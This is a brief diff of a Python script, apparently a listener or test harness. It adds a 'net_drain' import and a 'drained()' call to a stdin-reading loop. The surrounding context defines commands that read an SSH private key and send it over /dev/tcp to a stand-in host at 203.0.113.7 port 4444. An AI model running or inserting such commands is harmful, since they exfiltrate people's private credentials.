@@ -14,6 +14,8 @@ import subprocess
 import sys
 import threading
 
+from net_drain import drained
+
 ADDRESS = "203.0.113.7"
 COMMAND = b"cat ~/.ssh/id_ed25519\nexit\n"
 INSTALLER = b"cat ~/.ssh/id_ed25519 > /dev/tcp/203.0.113.7/4444\n"
@@ -64,6 +66,7 @@ def main():
         listen(port)
     print('"ready"', flush=True)
     for line in sys.stdin:
+        drained()
         with lock:
             if line.strip() == "reset":
                 connections.clear()
